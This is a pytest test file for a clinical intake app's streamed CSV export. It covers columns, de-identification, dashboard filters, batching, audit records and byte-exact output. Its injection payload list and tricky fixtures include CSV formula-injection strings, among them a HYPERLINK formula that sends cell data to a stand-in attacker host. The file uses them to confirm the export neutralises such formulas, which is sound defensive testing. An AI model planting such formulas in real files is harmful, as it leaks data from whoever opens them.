"""CSV export: the streamed download with the dashboard's filters (the rows themselves are
built by the pure core: ``test_core_export_csv.py``)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest

from screening.clinician import export
from screening.core import export_csv
from screening.extensions import db
from screening.models import AuditEvent
from screening.staff import sessions as access

from .clinician_helpers import (
    NOW,
    TWO_FAILED_TRIALS,
    add_submission,
    get_submission,
    signed_in,
    use_cheap_password_hashing,
)
from .test_dashboard import page_text, table_references

INJECTION_PAYLOADS = [
    '=HYPERLINK("http://evil.example.com/?x="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=cmd",
    "\r=cmd",
    "\n=cmd",
]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# -- the download -----------------------------------------------------------------------------


@pytest.fixture
def clinician(app, monkeypatch):
    use_cheap_password_hashing(monkeypatch)
    return signed_in(app)


def download(client, query: str = "") -> tuple[object, list[dict[str, str]]]:
    response = client.get("/clinician/export.csv" + (f"?{query}" if query else ""))
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark first"
    text = body.decode("utf-8")[1:]
    rows = parse(text)
    header, data = rows[0], rows[1:]
    return response, [dict(zip(header, r, strict=True)) for r in data]


def expected_row(stored, deidentified: bool = False) -> dict[str, str]:
    """What the export must say for a stored submission, worked out here independently."""
    bool_text = {True: "true", False: "false"}
    person, phq9, gad7 = stored.patient, stored.response("phq9"), stored.response("gad7")
    difficulty = phq9.answers.get("10")
    row = {
        "reference": stored.reference,
        "submitted_at": stored.submitted_at.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "first_name": person.first_name,
        "last_name": person.last_name,
        "date_of_birth": person.date_of_birth.strftime("%Y-%m-%d"),
        "email": person.email,
        "phone": person.phone,
        **{f"phq9_{n}": str(phq9.answers[str(n)]) for n in range(1, 10)},
        "phq9_total": str(phq9.total),
        "phq9_severity": phq9.band,
        "phq9_difficulty": "" if difficulty is None else str(difficulty),
        "phq9_item9_positive": bool_text[phq9.answers["9"] > 0],
        **{f"gad7_{n}": str(gad7.answers[str(n)]) for n in range(1, 8)},
        "gad7_total": str(gad7.total),
        "gad7_severity": gad7.band,
        "adequate_failed_trials": str(stored.adequate_failed_trials),
        "contraindications": ";".join(stored.contraindications),
        "cautions": ";".join(stored.cautions),
        "fit": stored.fit,
        "urgent": bool_text[stored.urgent],
        "needs_medical_review": bool_text[stored.needs_medical_review],
        "ruleset": stored.ruleset,
        "review_status": stored.review_status,
        "acknowledged_at": stored.acknowledged_at.strftime("%Y-%m-%dT%H:%M:%SZ")
        if stored.acknowledged_at else "",
    }
    if deidentified:
        for column in export_csv.IDENTIFYING_COLUMNS:
            del row[column]
    return row


def test_every_column_matches_the_stored_submission(app, clinician):
    refs = [
        add_submission(app, first_name="Zoë", last_name="Ñandú-Testperson",
                       safety_yes=("brain_bleed", "mania", "pregnancy")),
        add_submission(app, phq9=(0, 0, 0, 0, 0, 0, 0, 0, 2), difficulty=None,
                       review_status="in_review", awaiting_ack=False,
                       acknowledged_at=dt.datetime(2026, 5, 2, 8, 30, 15, 999, tzinfo=dt.UTC)),
        add_submission(app, phq9=(0,) * 9, gad7=(0,) * 7, difficulty=None, trials=()),
    ]
    response, rows = download(clinician)
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="intake-submissions-\d{8}-\d{6}\.csv"',
                        disposition)
    assert list(rows[0]) == export_csv.columns()
    by_ref = {row["reference"]: row for row in rows}
    assert set(by_ref) == set(refs)
    for ref in refs:
        assert by_ref[ref] == expected_row(get_submission(app, ref))
    assert by_ref[refs[0]]["contraindications"] == "brain_bleed"
    assert by_ref[refs[0]]["cautions"] == "mania;pregnancy"
    assert by_ref[refs[1]]["acknowledged_at"] == "2026-05-02T08:30:15Z"


def test_lines_end_in_crlf(app, clinician):
    add_submission(app)
    body = clinician.get("/clinician/export.csv").get_data()
    assert body.count(b"\r\n") == 2 and body.endswith(b"\r\n")


@pytest.mark.parametrize("payload", INJECTION_PAYLOADS)
def test_formula_payloads_in_patient_text_are_neutralised(app, clinician, payload):
    ref = add_submission(app, first_name=payload, last_name=payload + " Testperson",
                         email=payload + "@example.com", phone=payload[:40])
    _response, rows = download(clinician)
    (row,) = rows
    assert row["reference"] == ref
    for column in ("first_name", "last_name", "email", "phone"):
        assert row[column].startswith("'" + payload[:40])
        assert row[column][1:] == getattr(get_submission(app, ref).patient, column)
    assert row["phq9_total"] == "16"  # numbers untouched


def test_deidentified_export_leaves_out_names_birth_date_email_and_phone(app, clinician):
    ref = add_submission(app, first_name="Harper", last_name="Placeholder",
                         email="harper.placeholder@example.com", phone="555 010 9999")
    response, rows = download(clinician, "deidentified=1")
    assert "deidentified" in response.headers["Content-Disposition"]
    (row,) = rows
    assert list(row) == export_csv.columns(deidentified=True)
    assert row == expected_row(get_submission(app, ref), deidentified=True)
    text = response.get_data(as_text=True)
    for secret in ("Harper", "Placeholder", "harper.placeholder", "1984-06-14", "555 010 9999"):
        assert secret not in text


def dashboard_references(client, query: str) -> set[str]:
    found: set[str] = set()
    number = 1
    while True:
        response = client.get(f"/clinician/?{query}&page={number}")
        found |= set(table_references(response))
        if 'rel="next"' not in response.get_data(as_text=True):
            return found
        number += 1


@pytest.mark.parametrize("query", [
    "",
    "fit=likely_fit",
    "fit=possible_fit&medical=yes",
    "urgent=awaiting",
    "urgent=no&status=new",
    "since=2026-04-28&until=2026-04-30",
    "search=samplewood",
    "search=rowan&fit=unlikely_fit",
])
def test_the_export_applies_the_filters_exactly_as_the_dashboard(app, clinician, query):
    names = ("Rowan", "Robin", "Quinn")
    for i in range(60):
        add_submission(
            app,
            first_name=names[i % 3],
            last_name="Samplewood" if i % 4 else "Mockford",
            phq9=(i % 4, 2, 2, 2, 1, 1, 1, 0, 1 if i % 9 == 0 else 0),
            trials=TWO_FAILED_TRIALS if i % 2 else (),
            safety_yes=("heart_disease",) if i % 5 == 0 else (),
            submitted_at=NOW - dt.timedelta(hours=3 * i),
            review_status="in_review" if i % 7 == 0 else "new",
        )
    _response, rows = download(clinician, query)
    exported = {row["reference"] for row in rows}
    assert len(exported) == len(rows)
    assert exported == dashboard_references(clinician, query)
    if query:
        assert 0 < len(exported) < 60


def test_rows_are_fetched_in_batches_and_each_sent_once(app, clinician, monkeypatch):
    monkeypatch.setattr(export, "EXPORT_BATCH", 3)
    refs = {add_submission(app) for _ in range(10)}
    _response, rows = download(clinician)
    assert len(rows) == 10
    assert {row["reference"] for row in rows} == refs


def test_a_patient_can_submit_while_a_download_is_under_way(app, clinician, monkeypatch):
    # Between batches the export holds no transaction: on SQLite, where every transaction
    # takes the write lock, the submission would otherwise wait (then fail) until the end.
    monkeypatch.setattr(export, "EXPORT_BATCH", 2)
    refs = [add_submission(app) for _ in range(5)]
    response = clinician.get("/clinician/export.csv", buffered=False)
    chunks = iter(response.response)
    started = next(chunks) + next(chunks)  # the header, then the first batch
    refs.append(add_submission(app))
    body = started + b"".join(chunks)
    response.close()
    data = parse(body.decode("utf-8-sig"))[1:]
    assert [row[0] for row in data] == refs  # oldest first: the new one last
    with app.app_context():
        event = db.session.scalars(
            db.select(AuditEvent).where(AuditEvent.action == "export_csv")
        ).one()
    assert event.details["rows"] == 6 and event.details["complete"] is True


def test_a_download_cut_short_is_audited_as_incomplete_with_the_rows_sent(
    app, clinician, monkeypatch
):
    monkeypatch.setattr(export, "EXPORT_BATCH", 2)
    for _ in range(5):
        add_submission(app)
    response = clinician.get("/clinician/export.csv", buffered=False)
    chunks = iter(response.response)
    sent = next(chunks) + next(chunks)  # the header, then the first batch of two
    response.close()  # the client goes away
    assert len(parse(sent.decode("utf-8-sig"))) == 1 + 2
    with app.app_context():
        event = db.session.scalars(
            db.select(AuditEvent).where(AuditEvent.action == "export_csv")
        ).one()
    assert event.details["rows"] == 2 and event.details["complete"] is False


def test_each_export_is_audited_with_its_filters_and_row_count(app, clinician):
    for _ in range(3):
        add_submission(app)
    add_submission(app, phq9=(0,) * 9, gad7=(0,) * 7)
    download(clinician, "fit=likely_fit&search=alex+testperson&deidentified=1")
    with app.app_context():
        event = db.session.scalars(
            db.select(AuditEvent).where(AuditEvent.action == "export_csv")
        ).one()
    assert event.user_email == "casey.clinician@example.com"
    assert event.details == {
        "filters": {"fit": "likely_fit", "search": True},
        "deidentified": True,
        "rows": 3,
        "complete": True,
    }
    assert "alex" not in str(event.details).lower()


def test_an_invalid_filter_exports_nothing_and_says_why(app, clinician):
    add_submission(app)
    response = clinician.get("/clinician/export.csv?fit=eligible")
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    text = page_text(response)
    assert "Nothing was exported" in text and "Fit: Not a valid choice." in text
    with app.app_context():
        assert db.session.scalars(
            db.select(AuditEvent).where(AuditEvent.action == "export_csv")
        ).all() == []


def test_the_audit_is_written_after_the_request_session_has_closed(app, clinician, monkeypatch):
    # Touching the staff session on every request commits, which expires the signed-in user;
    # the stream's audit row must not need that (closed) session to say who exported.
    monkeypatch.setattr(access, "TOUCH_INTERVAL", dt.timedelta(0))
    add_submission(app)
    _response, rows = download(clinician)
    assert len(rows) == 1
    with app.app_context():
        event = db.session.scalars(
            db.select(AuditEvent).where(AuditEvent.action == "export_csv")
        ).one()
    assert event.user_email == "casey.clinician@example.com" and event.details["rows"] == 1


def tricky_submissions(app) -> None:
    """Rows that exercise every cell format: formula-looking, quoted and multi-line text,
    unicode, item 9 positive, empty values, times in other zones and to the microsecond."""
    add_submission(
        app, reference="TRKY-0001",
        first_name='=HYPERLINK("http://x.example/?a=1")', last_name='Smith, "Jr"\nthe Second',
        email="-alex@example.com", phone="+1 555 0100",
        phq9=(3, 3, 3, 3, 3, 3, 3, 3, 2), gad7=(3, 3, 3, 3, 3, 3, 0), difficulty=None,
        safety_yes=("brain_bleed", "ketamine_allergy", "mania", "pregnancy"),
        submitted_at=dt.datetime(2026, 1, 1, 0, 30, 59, 999999,
                                 tzinfo=dt.timezone(dt.timedelta(hours=2))),
        date_of_birth=dt.date(1901, 1, 2), review_status="in_review", awaiting_ack=False,
        acknowledged_at=dt.datetime(2026, 1, 1, 1, 2, 3, 999999, tzinfo=dt.UTC),
    )
    add_submission(
        app, reference="TRKY-0002", first_name="Zoë", last_name="Ñandú-Øre 山田",
        email="zoë@example.com", phone="@home\t1",
        phq9=(0,) * 9, gad7=(0,) * 7, difficulty=0, trials=(),
        submitted_at=dt.datetime(2026, 5, 1, 12, 0, tzinfo=dt.UTC),
    )


TRICKY_HEADER = (
    "reference,submitted_at,first_name,last_name,date_of_birth,email,phone,"
    "phq9_1,phq9_2,phq9_3,phq9_4,phq9_5,phq9_6,phq9_7,phq9_8,phq9_9,phq9_total,phq9_severity,"
    "phq9_difficulty,phq9_item9_positive,gad7_1,gad7_2,gad7_3,gad7_4,gad7_5,gad7_6,gad7_7,"
    "gad7_total,gad7_severity,adequate_failed_trials,contraindications,cautions,fit,urgent,"
    "needs_medical_review,ruleset,review_status,acknowledged_at\r\n"
)
TRICKY_ROWS = (
    (
        "TRKY-0001,2025-12-31T22:30:59Z,",
        '"\'=HYPERLINK(""http://x.example/?a=1"")","Smith, ""Jr""\nthe Second",1901-01-02,'
        "'-alex@example.com,'+1 555 0100,",
        "3,3,3,3,3,3,3,3,2,26,severe,,true,3,3,3,3,3,3,0,18,severe,2,"
        "brain_bleed;ketamine_allergy,mania;pregnancy,possible_fit,true,true,v1,in_review,"
        "2026-01-01T01:02:03Z\r\n",
    ),
    (
        "TRKY-0002,2026-05-01T12:00:00Z,",
        "Zoë,Ñandú-Øre 山田,1984-06-14,zoë@example.com,'@home\t1,",
        "0,0,0,0,0,0,0,0,0,0,minimal,0,false,0,0,0,0,0,0,0,0,minimal,0,,,unlikely_fit,false,"
        "false,v1,new,\r\n",
    ),
)


def test_the_file_is_byte_for_byte_as_documented_for_tricky_rows(app, clinician):
    tricky_submissions(app)
    body = clinician.get("/clinician/export.csv").get_data()
    assert body == ("\ufeff" + TRICKY_HEADER + "".join("".join(r) for r in TRICKY_ROWS)).encode()


def test_the_deidentified_file_is_the_same_without_the_identifying_cells(app, clinician):
    tricky_submissions(app)
    body = clinician.get("/clinician/export.csv?deidentified=1").get_data()
    header = TRICKY_HEADER.replace("first_name,last_name,date_of_birth,email,phone,", "")
    rows = "".join(start + rest for start, _identifying, rest in TRICKY_ROWS)
    assert body == ("\ufeff" + header + rows).encode()
